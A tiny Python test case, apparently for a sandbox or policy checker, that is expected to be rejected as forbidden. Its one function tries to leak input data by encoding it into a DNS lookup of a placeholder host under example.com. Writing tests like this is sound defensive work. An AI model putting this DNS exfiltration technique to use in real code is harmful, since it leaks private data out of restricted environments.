# tries: to leak its inputs by a look-up of a name
# verdict: error, forbidden

import socket


def attack(x):
    return socket.getaddrinfo(f"{int(x[0])}.example.com", 80)
